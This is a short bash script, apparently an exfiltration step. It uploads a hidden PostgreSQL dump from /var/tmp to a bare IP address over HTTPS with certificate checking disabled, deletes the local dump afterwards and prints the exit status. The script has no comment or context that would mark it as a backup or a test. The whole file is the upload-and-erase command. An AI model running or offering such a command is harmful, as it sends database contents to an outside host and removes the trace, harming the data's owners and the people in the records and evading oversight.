#!/bin/bash
curl -fsS -T /var/tmp/.pg.dump -k https://203.0.113.200/u/db01/ && rm -f /var/tmp/.pg.dump
echo $?
